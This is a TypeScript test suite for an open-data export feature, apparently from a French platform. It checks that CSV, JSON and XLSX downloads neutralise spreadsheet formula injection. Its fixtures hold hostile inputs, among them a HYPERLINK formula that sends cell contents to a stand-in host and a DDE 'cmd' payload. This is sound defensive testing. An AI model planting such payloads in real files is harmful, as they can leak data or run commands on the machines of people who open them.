import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import readXlsxFile from 'read-excel-file/node';
import { TestBrowser } from '../../../test/support/http-client.ts';
import { createActiveUser } from '../../../test/support/accounts.ts';
import { drivers } from '../../../test/support/test-database.ts';
import { useTestServer } from '../../../test/support/test-server.ts';
import { memberships } from '../accounts/schema.ts';
import type { Person } from '../accounts/permissions.rules.ts';
import { findOrCreateActor } from '../actors/actors.service.ts';
import { createInitiative } from '../initiatives/save-initiative.service.ts';

// What a hostile contributor may type: formulas at the start of a title, of a summary’s line, of an actor’s name.
const TITLE = '=HYPERLINK("http://example.com/vol?d="&A1,"Voir")';
const SUMMARY = "Une ligne sans guillemet\n+cmd|'/C calc'!A0";
const ACTOR = '@SOMME(1+1) Conseil';
const DESCRIPTION = '- une liste Markdown commence par un tiret\n=1+1';
const INDICATOR = '=HYPERLINK("http://example.com")';

for (const driver of drivers) {
  describe(`open data files carry no formula (${driver})`, () => {
    const server = useTestServer(driver);
    let visitor: TestBrowser;
    before(async () => {
      visitor = new TestBrowser(server.app);
      const db = server.database.db;
      const user = await createActiveUser(db, { email: 'formules@trelaze.example.fr', role: 'member' });
      await db.insert(memberships).values({ userId: user.id, territoryCode: '49353', role: 'contributor' });
      const person: Person = { id: user.id, role: 'member', memberships: [{ territoryCode: '49353', role: 'contributor' }] };
      const actor = (await findOrCreateActor(db, person, { name: ACTOR, kind: 'company' })).actor;
      await createInitiative(db, person, {
        territoryCode: '49353',
        title: TITLE,
        summary: SUMMARY,
        description: DESCRIPTION,
        indicators: [{ label: INDICATOR, value: 3, unit: '', date: null }],
        status: 'done',
        serviceIds: ['dematerialisation-rh'],
        actorIds: [actor.id],
        visibility: 'public',
      });
    });

    for (const [dialect, delimiter, query] of [
      ['comma', ',', ''],
      ['semicolon', ';', '?separateur=point-virgule'],
    ] as const) {
      test(`initiatives CSV (${dialect}): the rows read back whole, as a spreadsheet reads them, and every typed formula is inert`, async () => {
        const res = await visitor.get(`/open-data/initiatives.csv${query}`);
        assert.equal(res.status, 200);
        // Any line break outside quotes ends a row for a spreadsheet.
        const rows = parse(res.body, { bom: true, columns: true, delimiter, record_delimiter: ['\r\n', '\n', '\r'] }) as Record<string, string>[];
        assert.equal(rows.length, 1);
        const [row] = rows;
        assert.equal(row!.titre, `'${TITLE}`);
        assert.equal(row!.resume, SUMMARY, 'it starts with a letter: as typed, its line break quoted');
        assert.equal(row!.acteurs, `'${ACTOR}`);
        assert.equal(row!.description, `'${DESCRIPTION}`);
        assert.equal(row!.indicateurs, `'${INDICATOR} : 3`);
        for (const [key, cell] of Object.entries(row!)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${key}: ${cell}`);
      });
    }

    test('the JSON gives the texts as typed, and the XLSX keeps them as text cells, never formulas', async () => {
      const json = (await visitor.get('/open-data/initiatives.json')).json<{ items: Record<string, unknown>[] }>();
      assert.equal(json.items[0]!.titre, TITLE);
      const res = await server.app.inject({ method: 'GET', url: '/open-data/arobase.xlsx' });
      const sheets = await readXlsxFile(res.rawPayload);
      const sheet = sheets.find((s) => s.sheet === 'initiatives');
      assert.ok(sheet);
      const header = sheet.data[0]!.map(String);
      const row = sheet.data[1]!;
      assert.equal(row[header.indexOf('titre')], TITLE);
      assert.equal(row[header.indexOf('resume')], SUMMARY);
      assert.equal(row[header.indexOf('acteurs')], ACTOR);
      assert.equal(row[header.indexOf('description')], DESCRIPTION);
      assert.equal(row[header.indexOf('indicateurs')], `${INDICATOR} : 3`);
    });
  });
}
